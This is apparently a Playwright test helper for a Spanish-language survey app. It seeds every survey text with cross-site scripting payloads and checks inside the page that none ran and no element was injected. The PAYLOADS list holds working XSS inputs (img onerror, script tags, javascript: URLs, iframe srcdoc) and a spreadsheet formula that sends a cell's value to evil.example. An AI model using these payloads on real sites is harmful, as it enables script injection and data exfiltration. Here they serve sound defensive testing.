// Cross-site scripting probes for the end-to-end tests: payloads, a survey whose texts carry
// them (and pipe answers into titles and HTML), and a check, run inside the page, that nothing
// executed and no element was injected.
import type { BrowserContext, Page } from "playwright-core";

/** Each would set window.__xss (and most open a dialog) if it ever ran. */
export const PAYLOADS = [
  `<img src=x onerror="window.__xss=1;alert('img')">`,
  `<script>window.__xss=1;alert('script')</script>`,
  `"><svg onload="window.__xss=1;alert('svg')">`,
  `javascript:window.__xss=1;alert('js')`,
  `<a href="javascript:window.__xss=1;alert('a')">enlace</a>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `{institucion} {cargo} {consentimiento}`,
  `=HYPERLINK("http://evil.example/?d="&A1,"clic")`,
] as const;

/** The payloads without placeholders: safe to put into choice texts (a choice piping itself loops). */
const TEXT_PAYLOADS = PAYLOADS.filter((p) => !p.includes("{"));
export const FORMULA = PAYLOADS[7];

/** Author HTML is trusted and rendered as HTML by design; its handlers must still not run (CSP). */
export const AUTHOR_HTML = `<div class="author-html"><img src=x onerror="window.__xss_author=1"><script>window.__xss_author=1</script></div>`;

type Json = Record<string, unknown>;
type Localized = { default: string; en: string };

const isObject = (v: unknown): v is Json => typeof v === "object" && v !== null && !Array.isArray(v);
const append = (text: unknown, payload: string): Localized => {
  const t = isObject(text) ? text : { default: String(text ?? "") };
  const es = String(t.default ?? "");
  return { default: `${es} ${payload}`.trim(), en: `${String(t.en ?? es)} ${payload}`.trim() };
};
const both = (s: string): Localized => ({ default: s, en: s });

/**
 * surveys/dnc-tim.json under the slug "xss-textos" with a payload in the title, description and
 * every page, question, choice, row and column text; answers piped into titles ({cargo} …) and
 * into html questions; author HTML with handlers on the first page and in completedHtml.
 */
export function xssSurvey(base: Json): Json {
  const s = structuredClone(base);
  let n = 0;
  const nextTitle = () => PAYLOADS[n++ % PAYLOADS.length]!;
  const nextText = () => TEXT_PAYLOADS[n++ % TEXT_PAYLOADS.length]!;
  s.slug = "xss-textos";
  s.title = append(s.title, PAYLOADS[0]);
  s.description = both(PAYLOADS[2]);
  s.completedHtml = both(`<div class="completed-marker author-html">Gracias {cargo} <img src=x onerror="window.__xss_author=1"></div>`);
  const walkItems = (items: unknown) => {
    if (!Array.isArray(items)) return;
    items.forEach((item, i) => {
      if (isObject(item) && item.text !== undefined) items[i] = { ...item, text: append(item.text, nextText()) };
    });
  };
  for (const page of (s.pages as Json[]) ?? []) {
    page.title = append(page.title, nextTitle());
    for (const el of (page.elements as Json[]) ?? []) {
      if (el.type === "html") el.html = append(el.html, AUTHOR_HTML);
      else el.title = append(el.title, nextTitle());
      if (el.name !== "region") walkItems(el.choices);
      walkItems(el.rows);
      for (const col of (el.columns as Json[]) ?? []) {
        col.title = append(col.title, nextTitle());
        walkItems(col.choices);
      }
    }
  }
  const elements = (page: string) => (s.pages as Json[]).find((p) => p.name === page)!.elements as Json[];
  const find = (page: string, name: string) => elements(page).find((e) => e.name === name)!;
  // Answers piped into titles (rendered as text) and into html questions (escaped since the fix).
  find("perfil", "cargo_categoria").title = both("Usted escribió «{cargo}»: ¿qué categoría describe mejor su función?");
  const perfil = elements("perfil");
  perfil.splice(perfil.findIndex((e) => e.name === "cargo") + 1, 0, {
    type: "html",
    name: "eco_perfil",
    html: both(`<p class="eco">Usted escribió: {cargo} · {institucion_otra}</p>`),
  });
  find("abiertas", "sugerencias").title = both("Sobre «{cargo}» y «{institucion_otra}»: ¿tiene sugerencias?");
  (s.pages as Json[]).find((p) => p.name === "abiertas")!.description = both("Usted indicó el obstáculo «{obstaculo_otro}».");
  elements("abiertas").push({ type: "html", name: "eco_abiertas", html: both(`<p class="eco">{otras_necesidades} | {caso_reciente}</p>`) });
  // Formula-looking texts at the start of a label, for the CSV exports.
  (find("perfil", "institucion").choices as Json[]).find((c) => c.value === "ministerio_publico")!.text = both(FORMULA);
  (find("necesidades", "necesidades").rows as Json[])[0]!.text = both(FORMULA);
  return s;
}

export interface Watch {
  page: Page;
  dialogs: string[];
  errors: string[];
  refused: string[];
}

/** Records CSP violations in every document of the context (installed before any page script runs). */
export async function recordCspViolations(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      // Fired at the element whose inline script or handler was blocked: tell the author's apart.
      const author = e.target instanceof Element && e.target.closest(".author-html") ? "author-html" : "elsewhere";
      w.__csp.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample} in ${author}`);
    });
  });
}

/** A page whose dialogs (dismissed), script errors and CSP console messages are kept. */
export async function watchedPage(context: BrowserContext): Promise<Watch> {
  const page = await context.newPage();
  const w: Watch = { page, dialogs: [], errors: [], refused: [] };
  page.on("dialog", (d) => {
    w.dialogs.push(`${d.type()}: ${d.message()} @ ${page.url()}`);
    void d.dismiss().catch(() => undefined);
  });
  page.on("pageerror", (e) => w.errors.push(`${String(e)} @ ${page.url()}`));
  page.on("console", (m) => {
    if (/Refused to|violates the following Content Security Policy/i.test(m.text())) w.refused.push(`${m.text()} @ ${page.url()}`);
    else if (m.type() === "error" && !/Failed to load resource/.test(m.text())) w.errors.push(`${m.text()} @ ${page.url()}`);
  });
  return w;
}

export interface Probe {
  xss: unknown;
  xssAuthor: unknown;
  /** Elements that could run script, outside the author's own HTML. */
  injected: string[];
  csp: string[];
}

/** Looks, inside the page, for any sign that a payload became markup or ran. */
export function probe(page: Page): Promise<Probe> {
  return page.evaluate(() => {
    const w = window as unknown as { __xss?: unknown; __xss_author?: unknown; __csp?: string[] };
    const risky = (el: Element): boolean => {
      const tag = el.tagName.toLowerCase();
      if (tag === "img" && el.getAttribute("src") === "x") return true;
      if (tag === "iframe" || tag === "object" || tag === "embed") return true;
      // A JSON data block (the fill page's props) never runs; any other inline script without the
      // page's nonce would be an injection.
      const inertData = tag === "script" && el.getAttribute("type") === "application/json";
      if (tag === "script" && !inertData && !el.hasAttribute("src") && !el.hasAttribute("nonce")) return true;
      if ([...el.attributes].some((a) => /^on/i.test(a.name))) return true;
      return ["href", "src", "action", "formaction", "xlink:href"].some((a) => /^\s*javascript:/i.test(el.getAttribute(a) ?? ""));
    };
    const injected = [...document.querySelectorAll("body *")]
      .filter((el) => !el.closest(".author-html") && risky(el))
      .map((el) => el.outerHTML.slice(0, 160));
    return { xss: w.__xss, xssAuthor: w.__xss_author, injected, csp: w.__csp ?? [] };
  });
}
